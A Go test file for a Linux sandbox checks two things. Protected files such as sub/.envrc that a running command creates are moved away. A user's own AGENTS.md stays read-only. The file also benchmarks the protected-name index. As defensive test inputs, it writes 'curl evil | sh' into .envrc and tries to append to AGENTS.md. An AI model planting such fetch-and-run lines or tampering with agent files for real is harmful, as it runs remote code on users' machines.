//go:build linux

package sandbox

import (
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// A long-running command that makes a protected file in a subfolder has
// it moved away while it still runs (the periodic look), and named at
// its end; a file the person makes while nothing runs is kept, and bound
// read-only from the next command on.
func TestProtectedMadeWhileRunning(t *testing.T) {
	tr := newTree(t)
	os.MkdirAll(filepath.Join(tr.ws, "sub"), 0o755)
	tr.policy.Protected, tr.policy.StandIns = protectedCandidates(tr.ws, tr.ws)
	s := mustSandbox(t, tr.policy, Bwrap)
	argv, release, err := s.Command([]string{"bash", "-c", "sleep 0.2; echo 'curl evil | sh' > sub/.envrc; sleep 5"}, tr.ws)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = tr.ws
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	envrc := filepath.Join(tr.ws, "sub", ".envrc")
	exists := func() bool { _, err := os.Lstat(envrc); return err == nil }
	waitFor := func(want bool, within time.Duration) bool {
		for end := time.Now().Add(within); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
			if exists() == want {
				return true
			}
		}
		return false
	}
	if !waitFor(true, 3*time.Second) {
		t.Fatal("the command did not make sub/.envrc")
	}
	if !waitFor(false, watchEvery+1500*time.Millisecond) {
		t.Error("sub/.envrc still there while the command runs")
	}
	cmd.Wait()
	if moved := strings.Join(release(), "\n"); !strings.Contains(moved, "sub/.envrc (moved to ") {
		t.Errorf("release says %q", moved)
	}
	// The person's own file, made while nothing runs, stays; and no
	// command can change it.
	mine := filepath.Join(tr.ws, "sub", "AGENTS.md")
	os.WriteFile(mine, []byte("mine\n"), 0o644)
	if out, code := runCommand(t, s, tr.ws, "echo evil >> sub/AGENTS.md"); code == 0 {
		t.Errorf("appending to sub/AGENTS.md succeeded: %q", out)
	}
	if b, _ := os.ReadFile(mine); string(b) != "mine\n" {
		t.Errorf("sub/AGENTS.md = %q", b)
	}
}

// runCommand runs script through Command and its release.
func runCommand(t *testing.T, s *Sandbox, dir, script string) (string, int) {
	t.Helper()
	argv, release, err := s.Command([]string{"bash", "-c", script}, dir)
	if err != nil {
		t.Fatal(err)
	}
	defer release()
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	if ee, ok := err.(*exec.ExitError); ok {
		return string(out), ee.ExitCode()
	}
	return string(out), 0
}

// BenchmarkProtectLook measures what the protected-name index costs each
// command, twice per command (before and after): the first walk of a
// workspace of 100×50 folders, then a look with nothing changed (a stat
// of each known folder), and one where one folder changed.
func BenchmarkProtectLook(b *testing.B) {
	ws := b.TempDir()
	for i := range 100 {
		for j := range 50 {
			os.MkdirAll(filepath.Join(ws, "d"+strconv.Itoa(i), "e"+strconv.Itoa(j)), 0o755)
		}
		os.WriteFile(filepath.Join(ws, "d"+strconv.Itoa(i), "main.go"), nil, 0o644)
	}
	b.Run("first walk", func(b *testing.B) {
		for b.Loop() {
			x := &protectIndex{root: ws}
			x.look()
			x.closeWatch()
		}
	})
	x := &protectIndex{root: ws}
	x.look()
	b.Cleanup(x.closeWatch)
	b.Run("unchanged", func(b *testing.B) {
		for b.Loop() {
			x.look()
		}
	})
	b.Run("one folder changed", func(b *testing.B) {
		f := filepath.Join(ws, "d7", "new.txt")
		for b.Loop() {
			os.WriteFile(f, nil, 0o644)
			x.look()
			os.Remove(f)
			x.look()
		}
	})
}
